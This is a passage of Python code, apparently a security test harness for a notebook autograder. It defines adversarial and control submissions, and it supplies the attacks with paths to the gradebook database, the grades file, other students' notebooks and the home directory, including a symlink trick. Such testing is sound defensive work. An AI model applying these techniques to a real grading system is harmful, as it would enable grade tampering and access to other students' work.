               Path('scratch.txt').write_text('\\n'.join(','.join(r) for r in rows))
               print(Path('scratch.txt').read_text().splitlines()[0], len(rows))""")],
                extra={"measurements.csv": b"a,b\n1,2\n3,4\n"}),
           deserved(GOOD1), outputs={"attack": r"a,b 3"}, runs=("main", "plain")),
    Attack("h06_honest_mistakes", "honest",
           "wrong answers, a cell that raises, %precision and a stderr message: marked down, never for review",
           both(WRONG, {"fizzbuzz": WRONG["fizzbuzz"], "explain": "15 first"},
                cells1=[("start", "import sys\nprint('note', file=sys.stderr)\n1 / 0")],
                cells2=[("start", "%precision 4")]),
           # %precision 4 shows the partial credit 28/15 as 1.8667, which nbgrader reads back
           {**deserved({**WRONG, "explain": "x"}), "partial_fizzbuzz": 1.8667},
           errors={"attack": r"ZeroDivisionError"}, runs=("main", "plain")),
]

CONTROL: list[Attack] = [
    Attack("c01_correct", "control", "a correct submission", both(GOOD1, GOOD2), deserved({**GOOD1, **GOOD2}),
           runs=("main", "bare")),
    Attack("c02_empty", "control", "the released notebooks, unanswered", both(), deserved(EMPTY),
           runs=("main", "bare")),
    Attack("c03_wrong", "control", "wrong answers everywhere", both(WRONG, {"fizzbuzz": WRONG["fizzbuzz"]}),
           deserved(WRONG)),
    Attack("c04_correct", "control", "a correct submission", both(GOOD1, GOOD2), deserved({**GOOD1, **GOOD2})),
    Attack("c05_half", "control", "problem1 correct, problem2 unanswered", both(GOOD1), deserved(GOOD1)),
]

ALL: list[Attack] = INFLATE + BREAK + MALFORMED + ISOLATION + LOST + HONEST + CONTROL
BY_NAME = {a.name: a for a in ALL}
assert len(BY_NAME) == len(ALL), "attack names must be unique"


def context(course: Path, repo: Path, student: str) -> dict:
    """What an attack may know of the machine (absolute paths it would guess or find), for str.format."""
    return {
        "course": str(course), "repo": repo,
        "source": str(course / "source" / "ps1" / "problem1.ipynb"),
        "other": str(course / "submitted" / "c01_correct" / "ps1" / "problem1.ipynb"),
        "own": str(course / "submitted" / student / "ps1" / "problem1.ipynb"),
        "gradebook": str(course / "gradebook.db"), "csv": str(course / "grades.csv"),
        "other_report": str(course / "reports" / "c01_correct" / "ps1.json"),
        "home": str(Path.home()),
    }


def submit(attack: Attack, course: Path, repo: Path) -> Path:
    """Write ``attack``'s submission into ``course/submitted/<name>/ps1/`` (code cells formatted with its context)."""
    release = {name: nbformat.read(str(course / "release" / "ps1" / name), as_version=4) for name in (P1, P2)}
    ctx = context(course, repo, attack.student)
    folder = course / "submitted" / attack.student / "ps1"
    folder.mkdir(parents=True, exist_ok=True)
    for rel, data in attack.files(release, ctx).items():
        if rel.endswith(".ipynb") and MARK.encode() in data and b"{" in data:
            nb = nbformat.reads(data.decode(), as_version=4)
            for cell in nb.cells:
                if cell.source.startswith(MARK) and "{" in cell.source and ("!r}" in cell.source):
                    cell.source = cell.source.format(**ctx)
            data = dump(nb)
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, Symlink):
            path.symlink_to(data.format(**ctx))
        else:
            path.write_bytes(data)
    return folder
